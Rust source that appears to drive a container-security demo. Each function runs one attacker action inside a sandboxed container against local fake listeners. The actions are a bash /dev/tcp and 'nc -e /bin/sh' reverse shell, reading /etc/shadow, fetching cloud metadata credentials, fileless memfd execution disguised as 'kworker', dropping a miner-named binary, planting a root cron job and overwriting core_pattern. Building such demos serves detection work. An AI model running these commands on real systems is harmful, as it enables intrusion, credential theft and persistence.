//! How each deed of the table is done. Runs in pid 1 of a demo container, or in a program that it starts.

use std::{
    fs::{self, File},
    io::{self, Read, Write},
    os::{
        fd::{AsRawFd, OwnedFd},
        unix::{
            fs::{MetadataExt, PermissionsExt},
            process::CommandExt,
        },
    },
    path::Path,
};

use rustix::{
    fs::{MemfdFlags, memfd_create},
    process::{ioctl_tiocsctty, setsid},
    pty::{OpenptFlags, ioctl_tiocgptpeer, openpt, unlockpt},
};

use super::{
    InitError, Tried,
    network::{ATTACKER, METADATA, answer_once},
    root::CORE_PATTERN,
    spawn::{OUTPUT_MAX, code, command, run},
};
use crate::demo::{image::Image, message::Output};

pub(in crate::demo) type Act = fn(&Image) -> Result<Output, InitError>;

/// The name of a well-known miner.
const DROPPED: &str = "/tmp/kdevtmpfsi";
const ATTACKER_PORT: u16 = 4444;
const METADATA_PORT: u16 = 80;

/// The seventh word of `stat` is the controlling terminal: the first pseudo-terminal is device 136:0.
const TYPED: &[u8] = b"read -r _ _ _ _ _ _ tty _ < /proc/$$/stat\necho controlled by $tty\nexit 0\n";

pub(in crate::demo) fn terminal_shell(_: &Image) -> Result<Output, InitError> {
    let master =
        openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC).to("make a terminal")?;
    unlockpt(&master).to("unlock the terminal")?;
    let flags = OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC;
    let side = || ioctl_tiocgptpeer(&master, flags).to("open the terminal's other side");
    let mut shell = command("sh");
    shell.stdin(side()?).stdout(side()?).stderr(side()?).env("TERM", "dumb");
    // SAFETY: two system calls and nothing else between fork and exec: no lock, no allocation.
    unsafe {
        shell.pre_exec(|| {
            setsid()?;
            ioctl_tiocsctty(rustix::stdio::stdin())?;
            Ok(())
        });
    }
    let mut master = File::from(master);
    // Typed ahead: the terminal keeps it until the shell reads.
    master.write_all(TYPED).to("type into the terminal")?;
    let mut child = shell.spawn().to("run a shell in the terminal")?;
    // Its copies of the other side must go, or the end of the terminal is never seen.
    drop(shell);
    let stdout = read_terminal(&master).to("read the terminal")?;
    let code = code(child.wait().to("wait for the shell")?);
    Ok(Output { code, stdout, stderr: String::new() })
}

fn read_terminal(master: &File) -> io::Result<String> {
    let mut seen = Vec::new();
    match master.take(OUTPUT_MAX).read_to_end(&mut seen) {
        // How a terminal says that nobody has its other side open any more.
        Err(e) if e.raw_os_error() == Some(libc::EIO) => {}
        read => drop(read?),
    }
    Ok(String::from_utf8_lossy(&seen).into_owned())
}

pub(in crate::demo) fn read_shadow(_: &Image) -> Result<Output, InitError> {
    run(command("cat").arg("/etc/shadow"))
}

/// The shell itself connects where it can (bash); a busybox needs its `nc`.
pub(in crate::demo) fn reverse_shell(image: &Image) -> Result<Output, InitError> {
    let master = answer_once(ATTACKER, ATTACKER_PORT, b"echo obeyed as uid $(id -u)\nexit 0\n")?;
    let mut output = match image {
        Image::Host => {
            let script = format!("exec bash <>/dev/tcp/{ATTACKER}/{ATTACKER_PORT} >&0 2>&0");
            run(command("bash").args(["-c", &script]))?
        }
        Image::Busybox(_) => {
            let port = ATTACKER_PORT.to_string();
            run(command("nc").args([&ATTACKER.to_string(), &port, "-e", "/bin/sh"]))?
        }
    };
    output.stdout = heard(master)?;
    Ok(output)
}

/// With the tools an intruder finds in the image.
pub(in crate::demo) fn ask_metadata(image: &Image) -> Result<Output, InitError> {
    let service = answer_once(METADATA, METADATA_PORT, b"HTTP/1.0 200 OK\r\n\r\nno-such-role\n")?;
    let url = format!("http://{METADATA}/latest/meta-data/iam/security-credentials/");
    let has = |name: &str| ["/usr/bin", "/bin"].iter().any(|dir| Path::new(dir).join(name).exists());
    let output = match image {
        Image::Host if has("curl") => run(command("curl").args(["--silent", "--show-error", &url]))?,
        Image::Host if !has("wget") => {
            run(command("bash").args(["-c", &format!("cat < /dev/tcp/{METADATA}/{METADATA_PORT}")]))?
        }
        Image::Host | Image::Busybox(_) => run(command("wget").args(["-q", "-O", "-", &url]))?,
    };
    heard(service)?;
    Ok(output)
}

fn heard(far_side: std::thread::JoinHandle<io::Result<String>>) -> Result<String, InitError> {
    match far_side.join() {
        Ok(heard) => heard.to("hear a call"),
        Err(_) => Err(io::Error::other("the listener panicked")).to("hear a call"),
    }
}

pub(in crate::demo) fn run_from_memory(image: &Image) -> Result<Output, InitError> {
    let memory: OwnedFd = memfd_create("kworker", MemfdFlags::CLOEXEC).to("make a memory file")?;
    let mut memory = File::from(memory);
    let mut program = File::open(image.shell()).to(format!("open {}", image.shell()))?;
    io::copy(&mut program, &mut memory).to("fill the memory file")?;
    let path = format!("/proc/self/fd/{}", memory.as_raw_fd());
    run(command(&path).arg0(image.own_name("kworker")).args(image.script("echo ran from memory")))
}

pub(in crate::demo) fn run_dropped(image: &Image) -> Result<Output, InitError> {
    // Remembered neither by name nor by inode: the deed can be done again.
    match fs::remove_file(DROPPED) {
        Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(e).to(format!("remove {DROPPED}")),
        Ok(()) | Err(_) => {}
    }
    fs::copy(image.shell(), DROPPED).to(format!("drop {DROPPED}"))?;
    fs::set_permissions(DROPPED, fs::Permissions::from_mode(0o755))
        .to(format!("make {DROPPED} a program"))?;
    run(command(DROPPED).arg0(image.own_name(DROPPED)).args(image.script("echo ran a dropped program")))
}

/// No cron runs in the container, and the file ends with it.
pub(in crate::demo) fn plant_cron_job(_: &Image) -> Result<Output, InitError> {
    let script = format!("echo '* * * * * root {DROPPED}' > /etc/cron.d/refresh && cat /etc/cron.d/refresh");
    run(command("sh").args(["-c", &script]))
}

/// The path is true, the file behind it is not the kernel's: this looks before it writes.
pub(in crate::demo) fn write_core_pattern(_: &Image) -> Result<Output, InitError> {
    if is_the_kernels(CORE_PATTERN).to(format!("look at {CORE_PATTERN}"))? {
        return Err(io::Error::other("it is the kernel's own")).to(format!("write {CORE_PATTERN}"));
    }
    let script = format!("echo '|/tmp/escape' > {CORE_PATTERN} && cat {CORE_PATTERN}");
    run(command("sh").args(["-c", &script]))
}

/// Whether nothing covers a path below `/proc`.
fn is_the_kernels(path: &str) -> io::Result<bool> {
    Ok(fs::metadata(path)?.dev() == fs::metadata("/proc")?.dev())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_hosts_own_core_pattern_is_told_from_a_decoy() {
        assert!(is_the_kernels(CORE_PATTERN).unwrap());
        assert!(!is_the_kernels("/dev/null").unwrap());
    }
}
